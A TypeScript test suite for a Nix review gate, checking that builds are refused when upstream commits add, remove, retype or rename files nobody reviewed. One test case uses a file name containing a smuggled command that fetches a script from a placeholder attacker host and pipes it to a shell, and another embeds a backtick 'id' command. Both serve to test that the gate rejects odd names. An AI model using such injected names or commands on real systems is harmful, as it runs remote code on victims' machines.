/** Names that decide a derivation, on stock Nix: added, taken away and exchanged by anybody upstream. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { GateWorld, VERSIONS } from "../../../../testing/src/gate-world.ts";
import { missingForNixWorld } from "../../../../testing/src/nix-world.ts";
import type { Changes } from "../../../../testing/src/world-repository.ts";
import { namesAt, signedBy, wholeReviewOf } from "../../../../testing/src/world-statements.ts";
import { FILES, LISTED } from "./names-world.ts";

describe.each(VERSIONS)("names, Nix of %s", (version) => {
  describe.skipIf(missingForNixWorld(version) !== undefined)("held by the gate", () => {
    let world: GateWorld;
    beforeAll(async () => {
      world = await GateWorld.make({
        version,
        files: FILES as Readonly<Record<string, string>>,
        policy: { roles: { reader: ["bob"] } },
      });
      const introduction = world.source.tip();
      const rules = [{ paths: ["**"], review: "reader" }];
      await world.changeRules({ sources: { pkgs: { introduction, authenticate: "slice", rules } } });
      await world.startGate();
      const read = await wholeReviewOf(world.source, introduction, Object.keys(FILES));
      const answers = [
        { type: "-", name: "more.nix" },
        { type: "f", name: "strict" },
      ] as const;
      const names = [
        { kind: "answers", path: "", answers } as const,
        ...(await namesAt(world.source, introduction, LISTED)),
      ];
      await world.carry(await signedBy({ ...read, names }, [world.bob]));
    });
    afterAll(() => world?.[Symbol.asyncDispose]());

    const admit = (attr: string) => world.firstmile("admit", "-f", "default.nix", "-A", attr);
    const undo = (changes: Changes): Changes =>
      Object.fromEntries(Object.keys(changes).map((path) => [path, FILES[path] ?? null]));
    /** What an admission says after an unsigned commit that anybody made; the commit is undone. */
    const after = async (changes: Changes, attr: string) => {
      await world.commit(changes, undefined);
      const ended = await admit(attr);
      await world.commit(undo(changes), undefined);
      return ended;
    };

    test.each([
      "names",
      "count",
      "patches",
      "copied",
      "filtered",
      "strict",
      "types",
      "linked",
      "deep",
      "imports",
    ])("%s is admitted as it was read", async (attr) => {
      const ended = await admit(attr);
      expect(ended.stdout).toMatch(/\d files?.* that it reads of source pkgs/);
      expect(ended.stdout).not.toContain("had no influence");
      expect(ended.code).toBe(0);
      expect((await world.build(attr)).code).toBe(0);
    });

    test.each<[string, string, Changes, string, string]>([
      [
        "a patch is taken away",
        "patches",
        { "patches/1-fix-cve.patch": null },
        "listing-not-covered",
        "patches/: 1-fix-cve.patch is gone",
      ],
      [
        "all patches are taken away",
        "patches",
        { "patches/1-fix-cve.patch": null, "patches/2-paths.patch": null },
        "listing-not-covered",
        "patches: it is gone, which was a directory",
      ],
      [
        "a file of a copied directory is taken away",
        "copied",
        { "src/hardening.sh": null },
        "listing-not-covered",
        "src/: hardening.sh is gone",
      ],
      [
        "a file of a filtered directory is taken away",
        "filtered",
        { "src/hardening.sh": null },
        "listing-not-covered",
        "src/: hardening.sh is gone",
      ],
      [
        "a file that is asked for is taken away",
        "strict",
        { strict: null },
        "listing-not-covered",
        "strict: it is gone, which was a file",
      ],
      [
        "a listed file becomes a link",
        "types",
        { "dir/a": { mode: 0o120000, content: "b" } },
        "listing-not-covered",
        "dir/: a is a symbolic link now, and was a file",
      ],
      [
        "a listed file becomes a directory",
        "types",
        { "dir/a": null, "dir/a/x": "a" },
        "listing-not-covered",
        "dir/: a is a directory now, and was a file",
      ],
      [
        "a name changes its case",
        "names",
        { "hooks/a.sh": null, "hooks/A.sh": "echo a\n" },
        "listing-not-covered",
        "hooks",
      ],
      [
        "a file is taken away behind a link",
        "linked",
        { "dir/b": null },
        "listing-not-covered",
        "dir/: b is gone",
      ],
      [
        "a name is added that is taken as a word",
        "names",
        { "hooks/more": "x" },
        "listing-not-covered",
        "hooks/: more",
      ],
      ["a name is added behind a link", "linked", { "dir/more": "x" }, "listing-not-covered", "dir/: more"],
      ["a name is added deep down", "deep", { "deep/er/two": "x" }, "listing-not-covered", "deep/er/: two"],
      [
        "a submodule is added to a copied directory",
        "copied",
        { "src/vendor": { mode: 0o160000, content: "x" } },
        "listing-not-covered",
        "src/: vendor",
      ],
      [
        "an empty directory's place is taken",
        "types",
        { "dir/sub": { mode: 0o160000, content: "x" } },
        "listing-not-covered",
        "dir/: sub",
      ],
      [
        "a name is added that is a command",
        "names",
        { "hooks/$(wget -qO- evil.example|sh)": "x" },
        "odd-name",
        "hooks/: '$(wget -qO- evil.example|sh)'",
      ],
      [
        "such a name is added without influence",
        "count",
        { "hooks/`id`": "x" },
        "odd-name",
        "hooks/: '`id`'",
      ],
      ["a name with a line feed", "names", { "hooks/a\nb": "x" }, "odd-name", "hooks/: 'a\\x0ab'"],
      [
        "an unread file is copied",
        "copied",
        { "src/new.c": "x" },
        "not-covered",
        "src/new.c: role reader has not read it",
      ],
      [
        "an unread file is imported once it is there",
        "imports",
        { "more.nix": '"more"' },
        "not-covered",
        "more.nix: role reader has not read it",
      ],
      [
        "an unread patch",
        "patches",
        { "patches/3.patch": "x" },
        "not-covered",
        "patches/3.patch: role reader has not read it",
      ],
    ])("refused: %s", async (_, attr, changes, code, text) => {
      const ended = await after(changes, attr);
      expect(ended.stdout).toContain(text);
      expect(ended.stdout).toContain(code);
      expect(ended.code).toBe(1);
    });

    test.each<[string, string, Changes, string]>([
      [
        "a new name in a directory that is only looked at",
        "count",
        { "hooks/more": "x" },
        "1 name without a reader, in hooks/, had no influence",
      ],
      [
        "new names elsewhere",
        "names",
        { "other/more": "x", "src/new.c": "x" },
        "1 file and 1 listing that it reads",
      ],
      [
        "a new link where links are left out",
        "filtered",
        { "src/link": { mode: 0o120000, content: "main.c" } },
        "1 name without a reader, in src/, had no influence",
      ],
      [
        "a content that changes where only its name is looked at",
        "names",
        { "hooks/a.sh": "echo b\n" },
        "1 file and 1 listing that it reads",
      ],
    ])("admitted: %s", async (_, attr, changes, text) => {
      const ended = await after(changes, attr);
      expect(ended.stdout).toContain(text);
      expect(ended.code).toBe(0);
    });

    test("what was shown of a later listing counts", async () => {
      const commit = await world.commit({ "patches/1-fix-cve.patch": null, "hooks/more": "x" }, undefined);
      const names = await namesAt(world.source, commit, ["hooks", "patches"]);
      const [one] = (await wholeReviewOf(world.source, commit, ["strict"])).changes;
      const { changes: _, ...said } = await wholeReviewOf(world.source, commit, ["strict"]);
      await world.carry(await signedBy({ ...said, changes: [one!], names }, [world.bob]));
      expect((await admit("patches")).code).toBe(0);
      const ended = await admit("names");
      expect(ended.stdout).not.toContain("had no influence");
      expect(ended.code).toBe(0);
      await world.commit({ "patches/1-fix-cve.patch": "fix\n", "hooks/more": null }, undefined);
    });
  });
});
